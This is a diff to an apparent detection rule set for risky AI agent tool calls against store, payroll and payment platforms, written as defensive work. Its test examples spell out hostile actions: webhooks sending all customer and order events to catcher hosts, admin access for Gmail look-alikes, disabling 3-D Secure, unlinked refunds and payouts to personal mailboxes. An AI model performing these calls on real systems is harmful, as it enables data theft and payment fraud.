@@ -14,7 +14,8 @@ import { steeredName } from './command_and_control.js';
 import { credentialHeader, findSecrets } from '../knowledge/secrets.js';
 import { EMAIL_ADDRESS, PERSONAL_MAIL_DOMAIN, PERSONAL_MAILBOX, csvRows } from '../knowledge/payloads.js';
 import { table } from '../knowledge/table.js';
-import { accessForOutsider, bankDetailsWritten, booksRewritten, cardNumberShown, everyEventWebhook, identityNumbersPulled, ownRecord } from '../knowledge/payroll-finance.js';
+import { accessForOutsider, bankDetailsWritten, booksRewritten, cardNumberShown, everyEventWebhook, identityNumbersPulled, moneySentByCall, ownRecord } from '../knowledge/payroll-finance.js';
+import { catalogZeroed, customersPulled, eventsToCatcher, everyStoreEvent, fraudChecksOff, freeForAnyone, refundElsewhere, storeAccessForOutsider, storeCreditGiven } from '../knowledge/commerce.js';
 import { deviceAdminMade, deviceDataSentOut, deviceOpened, deviceProtectionOff, deviceSecretsRead, deviceWiped } from '../knowledge/network-devices.js';
 
 /** SQL longer than this is analyzed up to the bound. */
@@ -179,7 +180,8 @@ const CREDENTIAL_TABLES = new Set(['VAULT.DECRYPTED_SECRETS', 'MYSQL.USER', 'PG_
 /** Application tables whose rows are secrets. */
 const SECRET_TABLE = /^(?:API_?KEYS?|PASSWORDS|CREDENTIALS|USER_CREDENTIALS|SECRETS|(?:OAUTH|ACCESS|REFRESH|AUTH|API|PERSONAL_ACCESS)_TOKENS|USERS?_TOKENS?|AUTHTOKEN_TOKEN|PRIVATE_KEYS|(?:USER_|AUTH_)?SESSIONS)$/;
 /** Tables that record who did what: audit trails, access, login and security logs. */
-const AUDIT_TABLE = /AUDIT|ACCESS_LOGS?$|SECURITY_(?:LOG|EVENT)S?$|LOGIN_(?:HISTORY|ATTEMPTS|LOGS?)$|ACTIVITY_LOGS?$|EVENT_LOGS?$|_LOG_(?:EVENT|VIEW)\d{0,3}$/;
+// (and the stores' admin action logs: Magento's logging_event, WordPress's Simple History)
+const AUDIT_TABLE = /AUDIT|ACCESS_LOGS?$|SECURITY_(?:LOG|EVENT)S?$|LOGIN_(?:HISTORY|ATTEMPTS|LOGS?)$|ACTIVITY_LOGS?$|EVENT_LOGS?$|_LOG_(?:EVENT|VIEW)\d{0,3}$|LOGGING_EVENT(?:_CHANGES)?$|SIMPLE_HISTORY(?:_CONTEXTS)?$|ACTIONS?_LOGS?$/;
 const PASSWORD_COLUMNS = /^(?:[A-Z_]*\.)?(?:CVV|CVC|CVV2|CARD_NUMBER|CREDIT_CARD|CREDIT_CARD_NUMBER|CC_NUMBER|SSN|SOCIAL_SECURITY_NUMBER|PASSWORD|PASSWD|PASSWORD_HASH|PASSWORD_DIGEST|HASHED_PASSWORD|ENCRYPTED_PASSWORD|PWD|PASS|PASS_HASH|SECRET|API_KEY|APIKEY|API_TOKEN|ACCESS_TOKEN|REFRESH_TOKEN|AUTH_TOKEN|SESSION_TOKEN|OTP_SECRET|TOTP_SECRET|DECRYPTED_SECRET|MFA_SECRET|PRIVATE_KEY|SALT|AUTHENTICATION_STRING|ROLPASSWORD|PASSWD_HASH|USER_PASS|SALTED_HASH|PASSWORD_VALUE|CRYPTED_PASSWORD|PASSWORD_SALT|SESSION_KEY|REMEMBER_TOKEN|RESET_TOKEN|PASSWORD_RESET_TOKEN|CLIENT_SECRET|SECRET_KEY|WEBHOOK_SECRET|SIGNING_SECRET|TOTP_SEED|OTP_SEED|ENCRYPTED_VALUE|SECURE_JSON_DATA|BASIC_AUTH_PASSWORD|OAUTH_ACCESS_TOKEN|OAUTH_REFRESH_TOKEN)$/;
 
 // (and PostgreSQL's roles that read and write the server's files or run programs on it: a superuser's reach by another name)
@@ -1604,14 +1606,16 @@ export const RULES: readonly Rule[] = [
   },
   {
     id: 'PX-CALL-067', name: 'finance-access-for-outsider', score: 80, tactic: 'persistence', technique: 'T1098',
-    message: "A tool call gives an HR, payroll, accounting or card system's access to an outsider: an address on a look-alike of the vendor's domain, or a personal mailbox made an administrator",
-    why: "Vendors' support never asks to be made a user, and an administrator of payroll or spend can change where money goes; access for `gusto-support-desk.com` or a Gmail address stays after the session.",
+    message: "A tool call gives an HR, payroll, accounting, card, store or payment system's access to an outsider: an address on a look-alike of the vendor's domain, or a personal mailbox made an administrator",
+    why: "Vendors' support never asks to be made a user, and an administrator of payroll, spend, a store or its payments can change where money goes; access for `gusto-support-desk.com` or a Gmail address stays after the session.",
     alternative: "Give access to people's company addresses, with the least role they need, through the identity provider.",
-    check: (i) => accessForOutsider(i.call),
+    check: (i) => [...accessForOutsider(i.call), ...storeAccessForOutsider(i.call)],
     examples: {
       fire: [
         { Unknown: { tool_name: 'mcp__gusto__create_company_admin', params: { company_uuid: 'c44e7a1b', first_name: 'Gusto', last_name: 'Support', email: 'payroll.help@gusto-support-desk.com' } } },
         { Unknown: { tool_name: 'mcp__ramp__invite_user', params: { email: 'finance.audit.2024@gmail.com', first_name: 'Audit', last_name: 'Team', role: 'BUSINESS_ADMIN' } } },
+        { Unknown: { tool_name: 'mcp__adyen__create_company_user', params: { companyId: 'NorthwindGroup', email: 'recon.support.adyen@gmail.com', roles: ['Merchant admin', 'Issue refunds'] } } },
+        { Unknown: { tool_name: 'mcp__segment__create_invites', params: { invites: [{ email: 'analytics.contractor@gmail.com', permissions: [{ roleId: 'workspace-owner' }] }] } } },
       ],
       quiet: [
         { Unknown: { tool_name: 'mcp__gusto__create_employee', params: { first_name: 'Ana', last_name: 'Silva', email: 'ana.silva@gmail.com', start_date: '2025-01-06' } } },
@@ -1668,13 +1672,128 @@ export const RULES: readonly Rule[] = [
   },
   {
     id: 'PX-CALL-071', name: 'every-payment-event-to-webhook', score: 60, tactic: 'exfiltration', technique: 'T1567',
-    message: "Sends every event of a Stripe account to a webhook: each customer, charge, payout and payment method",
+    message: "Sends every event of a Stripe account or a store to a webhook or subscription: each customer, order, charge, payout and payment method",
     why: 'A webhook endpoint for `*` copies the whole account\'s activity, customers\' details included, to its host for as long as it stays; services that need events subscribe to the few they handle.',
     alternative: 'Subscribe the endpoint to the events the service handles, on a host of the company\'s, and forward locally with `stripe listen` when testing.',
-    check: (i) => everyEventWebhook(i.call, i.view?.commands ?? []),
+    check: (i) => [...everyEventWebhook(i.call, i.view?.commands ?? []), ...everyStoreEvent(i.call)],
     examples: {
       fire: ["stripe webhook_endpoints create --url https://ingest.churnlens-analytics.io/stripe/tallyrail -d 'enabled_events[]=*' -d 'description=ChurnLens ingest'", { Network: { method: 'POST', url: 'https://api.stripe.com/v1/webhook_endpoints', body: 'url=https%3A%2F%2Fhooks.example-relay.net%2Fs&enabled_events[]=*' } }, { Unknown: { tool_name: 'mcp__stripe__create_webhook_endpoint', params: { url: 'https://stripe-events.hookdeck-relay.com/e/91af', enabled_events: ['*'] } } }],
       quiet: ["stripe webhook_endpoints create --url https://api.tallyrail.com/webhooks/stripe/disputes -d 'enabled_events[]=charge.dispute.created'", "stripe webhook_endpoints create --url https://c7d1-81-2-69-142.ngrok-free.app/webhooks/stripe -d 'enabled_events[]=*'", { Unknown: { tool_name: 'mcp__stripe__create_webhook_endpoint', params: { url: 'https://api.acme.com/webhooks/stripe', enabled_events: ['invoice.paid'] } } }],
+    },
+  },
+  {
+    id: 'PX-CALL-072', name: 'store-discount-for-everything', score: 80, tactic: 'impact', technique: 'T1657',
+    message: 'A tool call makes a discount, coupon or price rule of 100% off that anyone can use any number of times',
+    why: 'A code for everything, free, with no limit on uses empties the store once it is shared; real promotions have a size, an end and a cap.',
+    alternative: 'Give the discount a percentage below 100, a usage cap and a customer segment, and let the person who asked confirm it.',
+    check: (i) => freeForAnyone(i.call),
+    examples: {
+      fire: [
+        { Unknown: { tool_name: 'mcp__woocommerce__create_coupon', params: { code: 'kc-partner-free', discount_type: 'percent', amount: '100', usage_limit: null, free_shipping: true } } },
+        { Unknown: { tool_name: 'mcp__shopify__admin_graphql', params: { query: 'mutation discountCodeBasicCreate($d: DiscountCodeBasicInput!) { discountCodeBasicCreate(basicCodeDiscount: $d) { codeDiscountNode { id } } }', variables: { d: { code: 'ALLFREE', customerGets: { value: { percentage: 1.0 }, items: { all: true } }, usageLimit: null } } } } },
+      ],
+      quiet: [
+        { Unknown: { tool_name: 'mcp__woocommerce__create_coupon', params: { code: 'WELCOME10', discount_type: 'percent', amount: '10', usage_limit: 500, usage_limit_per_user: 1 } } },
+        { Unknown: { tool_name: 'mcp__bigcommerce__create_coupon', params: { code: 'STAFF100', type: 'percentage_discount', amount: '100.00', max_uses: 5 } } },
+      ],
+    },
+  },
+  {
+    id: 'PX-CALL-073', name: 'store-credit-handed-out', score: 75, tactic: 'impact', technique: 'T1657',
+    message: 'A tool call hands out store credit in bulk or in a large amount: gift cards or certificates worth 500 or more or five at once, a fixed coupon of 500 or more, tens of thousands of loyalty points',
+    why: 'Gift cards, credit and points are money the store owes; codes minted by the dozen or worth hundreds and mailed to someone are how they are stolen and resold.',
+    alternative: 'Issue goodwill credit one customer at a time, in the amounts support policy allows, for a ticket a person approved.',
+    check: (i) => storeCreditGiven(i.call),
+    examples: {
+      fire: [
+        { Unknown: { tool_name: 'mcp__shopify__create-gift-cards', params: { count: 25, initialValue: '200.00', sendTo: 'giveaway.partners@gmail.com' } } },
+        { Unknown: { tool_name: 'mcp__bigcommerce__create_gift_certificate', params: { to_email: 'alex.rewards@gmail.com', amount: '1000.00', status: 'active' } } },
+        { Unknown: { tool_name: 'mcp__yotpo__adjust_points', params: { customer_email: 'rewards.hunter77@gmail.com', point_adjustment_amount: 500000 } } },
+      ],
+      quiet: [
+        { Unknown: { tool_name: 'mcp__shopify__admin_graphql', params: { query: 'mutation giftCardCreate($input: GiftCardCreateInput!) { giftCardCreate(input: $input) { giftCard { id } } }', variables: { input: { initialValue: '25.00', note: 'Late delivery - ticket #22877' } } } } },
+        { Unknown: { tool_name: 'mcp__smile__create_points_transaction', params: { customer_id: 418830117, points_change: 200, description: 'Birthday bonus' } } },
+      ],
+    },
+  },
+  {
+    id: 'PX-CALL-074', name: 'refund-to-card-that-never-paid', score: 85, tactic: 'impact', technique: 'T1657',
+    message: "A tool call refunds money to a card that never paid: Adyen's refund with card data, Square's unlinked refund, a Braintree credit to a stored payment method",
+    why: 'A refund belongs on the payment it returns; one sent to card details someone supplied is a payout to them, and the usual way refund fraud is cashed.',
+    alternative: 'Refund on the original payment or order, for the amount of the return.',
+    check: (i) => refundElsewhere(i.call),
+    examples: {
+      fire: [
+        { Network: { method: 'POST', url: 'https://pal-live.adyen.com/pal/servlet/Payment/v68/refundWithData', body: '{"merchantAccount":"ShopECOM","modificationAmount":{"currency":"EUR","value":184000}}' } },
+        { Unknown: { tool_name: 'mcp__square__make_api_request', params: { service: 'refunds', method: 'RefundPayment', request: { amount_money: { amount: 148000, currency: 'USD' }, unlinked: true, destination_id: 'cnon:CA4SEK' } } } },
+      ],
+      quiet: [
+        { Unknown: { tool_name: 'mcp__square__make_api_request', params: { service: 'refunds', method: 'RefundPayment', request: { payment_id: 'R2B3Z8WMVt3E', amount_money: { amount: 1800, currency: 'USD' } } } } },
+        { Unknown: { tool_name: 'mcp__adyen__refund_payment', params: { pspReference: 'QFQTPCQ8HXSKGK82', amount: { currency: 'EUR', value: 8900 } } } },
+      ],
+    },
+  },
+  {
+    id: 'PX-CALL-075', name: 'store-catalog-zeroed', score: 75, tactic: 'impact', technique: 'T1565.001',
+    message: "A tool call sets several products' prices to 0, or several items' stock to none, in one go",
+    why: 'Live prices at zero let anyone check the goods out for nothing, and a catalog with no stock stops every sale; one sample priced free or one sold-out item is ordinary.',
+    alternative: 'Change prices and stock item by item from the merchandiser\'s sheet, and schedule sales through the platform\'s sale prices.',
+    check: (i) => catalogZeroed(i.call),
+    examples: {
+      fire: [{ Unknown: { tool_name: 'mcp__bigcommerce__update_products', params: { products: [{ id: 311, price: 0.0 }, { id: 312, price: 0.0 }, { id: 318, price: 0.0 }] } } }],
+      quiet: [{ Unknown: { tool_name: 'mcp__woocommerce__batch_update_products', params: { update: [{ id: 2301, stock_quantity: 24 }, { id: 2305, stock_quantity: 0, stock_status: 'outofstock' }] } } }],
+    },
+  },
+  {
+    id: 'PX-CALL-076', name: 'store-events-to-catcher', score: 85, tactic: 'exfiltration', technique: 'T1567',
+    message: "A tool call subscribes a webhook catcher, paste site, raw address or look-alike host to a store's, payment platform's or marketing system's events",
+    why: 'Every order, customer or payment event then reaches that host, with names, addresses and e-mails, for as long as the subscription stays.',
+    alternative: "Point webhooks at the company's own services; test with the platform's CLI forwarding to localhost.",
+    check: (i) => eventsToCatcher(i.call),
+    examples: {
+      fire: [{ Network: { method: 'POST', url: 'https://shop.myshopify.com/admin/api/2024-10/webhooks.json', body: '{"webhook": {"topic": "orders/paid", "address": "https://eo8x2k4m1q9zv.m.pipedream.net", "format": "json"}}' } }],
+      quiet: [{ Unknown: { tool_name: 'mcp__woocommerce__create_webhook', params: { name: 'Stock alerts to ERP', topic: 'product.updated', delivery_url: 'https://erp.kettleandcrane.com/api/woo/product-updated' } } }],
+    },
+  },
+  {
+    id: 'PX-CALL-077', name: 'store-customers-pulled', score: 55, tactic: 'collection', technique: 'T1213',
+    message: "A tool call lists a store's or marketing system's customers a hundred or more at a time, or exports them with their contact details",
+    why: "Every customer's name, e-mail, phone and address is what a breach of a store sells; support looks up one customer, reports need counts, not contacts.",
+    alternative: "Look up the customer the ticket is about, or ask the platform's reports for counts and totals.",
+    check: (i) => customersPulled(i.call),
+    examples: {
+      fire: [{ Unknown: { tool_name: 'mcp__magento__search_customers', params: { pageSize: 1000, currentPage: 1, filters: [] } } }],
+      quiet: [{ Unknown: { tool_name: 'mcp__shopify__get-customers', params: { searchQuery: 'email:dana@example.com', limit: 1 } } }],
+    },
+  },
+  {
+    id: 'PX-CALL-078', name: 'payment-fraud-checks-off', score: 80, tactic: 'defense_evasion', technique: 'T1562',
+    message: "A tool call turns a store's payment fraud checks off: 3-D Secure, fraud screening, the address or card-code checks",
+    why: 'These checks are what stop stolen cards at checkout; turned off, card testing and fraudulent orders go through until the chargebacks arrive.',
+    alternative: "Tune the rules in the payment provider's risk settings with its support, and keep 3-D Secure on.",
+    check: (i) => fraudChecksOff(i.call),
+    examples: {
+      fire: [{ Database: { query: "UPDATE core_config_data SET value = '0' WHERE path IN ('payment/braintree/verify_3dsecure', 'payment/braintree/fraudprotection');" } }],
+      quiet: [{ Database: { query: "SELECT path, value FROM core_config_data WHERE path LIKE 'payment/braintree/%';" } }],
+    },
+  },
+  {
+    id: 'PX-CALL-079', name: 'sends-money-by-call', score: 60, tactic: 'impact', technique: 'T1657',
+    message: "A tool call sends money out of a bank, spend or payment platform: a payout, transfer, wire, payment order or push sweep",
+    why: 'Money sent leaves the business for good; made by an agent from a ticket, an e-mail or a document, it is the last step of payment fraud, so the person who asked confirms it.',
+    alternative: "Create payments in the platform's dashboard, with its approval rules and a second person.",
+    check: (i) => moneySentByCall(i.call),
+    examples: {
+      fire: [
+        { Unknown: { tool_name: 'mcp__mercury__send_money', params: { accountId: 'a1b2c3d4', recipientId: 'r9f8e7d6', amount: 145000.0, paymentMethod: 'domesticWire' } } },
+        { Network: { method: 'POST', url: 'https://api-m.paypal.com/v1/payments/payouts', body: '{"sender_batch_header": {"sender_batch_id": "aff-nov"}, "items": [{"recipient_type": "EMAIL", "amount": {"value": "2400.00", "currency": "USD"}, "receiver": "aff.payouts@gmail.com"}]}' } },
+        { Unknown: { tool_name: 'mcp__adyen__create_sweep', params: { balanceAccountId: 'BA3227C2', type: 'push', counterparty: { transferInstrumentId: 'SE322KH2' } } } },
+      ],
+      quiet: [
+        { Unknown: { tool_name: 'mcp__brex__list_transfers', params: { limit: 50 } } },
+        { Unknown: { tool_name: 'mcp__modern-treasury__cancel_payment_order', params: { id: 'e4a6c8e0' } } },
+        { Unknown: { tool_name: 'mcp__adyen__create_sweep', params: { balanceAccountId: 'BA3227C2', type: 'pull', counterparty: { balanceAccountId: 'BA9' } } } },
+      ],
     },
   },
 
